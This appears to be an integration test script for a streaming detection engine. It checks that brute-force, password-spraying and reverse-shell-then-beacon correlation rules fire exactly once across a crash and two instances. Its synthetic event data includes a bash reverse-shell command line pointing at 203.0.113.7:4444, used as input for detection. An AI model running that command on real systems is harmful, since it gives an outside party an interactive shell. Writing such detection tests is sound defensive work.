# Correlation rules in kta run (issue 12), in both modes, with the default
# rules (rules/): brute force (event_count), password spraying
# (value_count) and a reverse shell followed by a beacon from the same host
# (temporal_ordered).  Each group's events are spread over every input
# partition, first read by one kta that is then killed with kill -9
# mid-window (every record committed), then by two instances together,
# each owning some partitions of the internal correlation topic.  The
# counts only reach their thresholds, and the beacon only follows its
# shell, when the state from before the kill is read back from the
# changelog, and each group's events meet in one owner whatever partition
# they came on: every expected hit exactly once, none from one instance's
# partial view.  kta eval over the same events is the oracle.
. "$KTA_ROOT/tests/integration/lib.sh"

# events PHASE: 8 brute-force groups x 5 failures, 3 (phase 1: 2) sprayed
# users from one address, and on host web1 a reverse shell (phase 1) or
# its connection out (phase 2); each line "PARTITION<TAB>EVENT"; times
# rise in the order written, so no partition ever goes back in time.
events() {
    /usr/bin/python3 - "$1" <<'PY'
import json, sys, time
phase = int(sys.argv[1])
base = 1764583200 + (0 if phase == 1 else 120)          # 2025-12-01T10:00:00Z
n = 0
def emit(ev):
    global n
    ev["@timestamp"] = time.strftime("%Y-%m-%dT%H:%M:%S.000Z", time.gmtime(base + n))
    print("%d\t%s" % (n % 4, json.dumps(ev)))
    n += 1
def login(user, ip):
    emit({"event_type": "login", "result": "failure", "method": "ssh", "user": user,
          "src_ip": ip, "host": "h%d" % (n % 3)})
for j in range(5):
    for g in range(8):
        login("user%d" % g, "10.0.0.%d" % g)
for u in ([0, 1] if phase == 1 else [2, 3, 4]):
    login("sprayed%d" % u, "203.0.113.9")
if phase == 1:
    emit({"event_type": "process", "host": "web1", "user": "www-data",
          "process": {"pid": 4242, "ppid": 1, "name": "bash", "executable": "/usr/bin/bash",
                      "command_line": "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"}})
else:
    emit({"event_type": "network", "host": "web1", "src_ip": "10.1.2.3", "src_port": 50000,
          "dst_ip": "203.0.113.7", "dst_port": 4444, "protocol": "tcp", "bytes_out": 10})
PY
}
produce_phase() {   # produce_phase TOPIC PHASE
    events "$2" >"phase$2.tsv"
    for p in 0 1 2 3; do
        awk -F'\t' -v p="$p" '$1 == p { print $2 }' "phase$2.tsv" | kcat -b "$B" -P -t "$1" -p "$p"
    done
}
# inputs FILE...: the correlation inputs those events make (a failure feeds
# brute force and spraying; the shell and the connection the beacon).
inputs() { cat "$@" | awk '/"login"/ { n += 2; next } { n++ } END { print n }'; }

run_mode() {   # run_mode alo|eos
    local mode=$1 in=$T-$1-events hits=$T-$1-hits dlq=$T-$1-dlq group=$T-$1-kta
    local args
    topic "$in" 4; topic "$hits"; topic "$dlq"
    args=(-t "$in" -G "$group" -r "$KTA_ROOT/rules" -X output.topic="$hits"
          -X dead_letter.topic="$dlq" --print none -X commit_interval_ms=300 -w 2)
    # Exactly-once: b takes over a's transactional.id (fencing the open
    # transaction the kill left, instead of waiting for its timeout); c has
    # its own (two live instances on one id would fence each other).
    local ida=() idc=()
    [[ $mode == eos ]] && args+=(-X processing.guarantee=exactly_once) &&
        ida=(-X transactional.id="$group-1") && idc=(-X transactional.id="$group-2")

    produce_phase "$in" 1
    start_kta "$mode-a" "${args[@]}" "${ida[@]}"
    wait_log "$mode-a" "created internal topic '$group-kta-correlation'" 30
    wait_committed "$group" "$in" "$(wc -l <phase1.tsv)" 60 "$mode-a"
    # Every correlation input applied.
    wait_committed "$group" "$group-kta-correlation" "$(inputs phase1.tsv)" 60 "$mode-a"
    stop_kta "$mode-a" KILL
    ((RC == 137)) || fail "$mode: kill -9 gave $RC"
    ok "$mode: first instance killed with every window open"

    start_kta "$mode-b" "${args[@]}" "${ida[@]}"
    start_kta "$mode-c" "${args[@]}" "${idc[@]}"
    wait_log "$mode-b" "assigned" 60
    wait_log "$mode-c" "assigned" 60
    produce_phase "$in" 2
    wait_committed "$group" "$in" "$(cat phase1.tsv phase2.tsv | wc -l)" 60 "$mode-b"
    wait_committed "$group" "$group-kta-correlation" "$(inputs phase1.tsv phase2.tsv)" 60 "$mode-b"
    sleep 1
    stop_owners "$mode" "$group" "$mode-b" "$mode-c"
    ok "$mode: both instances own correlation partitions and read their state back"

    cut -f2 phase1.tsv phase2.tsv >"$mode-events.jsonl"
    "$KTA" eval -r "$KTA_ROOT/rules" "$mode-events.jsonl" >"$mode-expected.jsonl"
    kcat -b "$B" -C -t "$hits" -e -o beginning -q -X isolation.level=read_committed \
        >"$mode-got.jsonl"
    /usr/bin/python3 - "$mode" <<'PY'
import collections, json, sys
mode = sys.argv[1]
def keys(path):
    out = collections.Counter()
    for h in map(json.loads, open(path)):
        c = h.get("correlation")
        if c:
            out[(h["rule"]["id"], json.dumps(c["group"], sort_keys=True), c["count"])] += 1
        else:
            out[(h["rule"]["id"], json.dumps(h["event"], sort_keys=True), 0)] += 1
    return out
want, got = keys(mode + "-expected.jsonl"), keys(mode + "-got.jsonl")
print("%s: expected %d hits, got %d" % (mode, sum(want.values()), sum(got.values())))
per = collections.Counter(k[0] for k in want.elements())
assert per == {"auth-brute-force": 8, "auth-password-spraying": 1, "net-process-then-beacon": 1,
               "lnx-reverse-shell-dev-tcp": 1, "net-outbound-offensive-tool-port": 1}, per
for k in sorted(set(want) | set(got)):
    if want[k] != got[k]:
        print("  %s: expected %d, got %d" % (k, want[k], got[k]))
assert want == got
PY
    ok "$mode: every hit once: brute force, spraying and the beacon across the kill and the instances"
}

run_mode alo
run_mode eos

# input.exit_at_end: a one-shot run waits for the correlation inputs of the
# last records to come back from the internal topic (they were sent after
# the input partitions had reached their end), so the hits they complete
# are produced by this run, not the next.  Phase 1 holds 5 failures of each
# of 8 groups: with a threshold of 3, 8 hits; and a correlation of that
# correlation (8 brute-force hits in 10 minutes, whatever the group): one
# more, its inputs being the 8 hits, sent back through the topic to the
# owner of its one group.
mkdir -p rules
cat >rules/corr.yml <<'EOF'
title: failed login
id: t28-failed-login
detection:
  sel: {event_type: login, result: failure}
  condition: sel
---
title: Brute force against one account from one address
id: t28-brute
level: high
correlation:
  type: event_count
  rules: t28-failed-login
  group-by: [user, src_ip]
  timespan: 10m
  condition: {gte: 3}
---
title: Many accounts brute-forced at once
id: t28-wave
level: critical
correlation:
  type: event_count
  rules: t28-brute
  timespan: 10m
  condition: {gte: 8}
EOF
in=$T-e-events hits=$T-e-hits group=$T-e-kta
topic "$in" 4; topic "$hits"; topic "$T-e-dlq"
produce_phase "$in" 1
timeout 120 "$KTA" run -b "$B" -t "$in" -G "$group" -r rules -X output.topic="$hits" \
    -X dead_letter.topic="$T-e-dlq" --print none -w 2 -e >e.out 2>e.err; RC=$?
expect_eq "exit-at-end run exit" 0 "$RC"
grep -q "every assigned partition is caught up" e.err || fail "no caught-up line: $(tail -3 e.err)"
expect_eq "every group's hit and the chained one produced before the one-shot run exits" \
    "t28-brute 8 t28-wave 1" \
    "$(consume "$hits" | /usr/bin/python3 -c 'import collections, json, sys
c = collections.Counter(json.loads(l)["rule"]["id"] for l in sys.stdin)
print(" ".join("%s %d" % kv for kv in sorted(c.items())))')"
ok "exit-at-end waits for the correlation inputs of its last records, chained ones too"
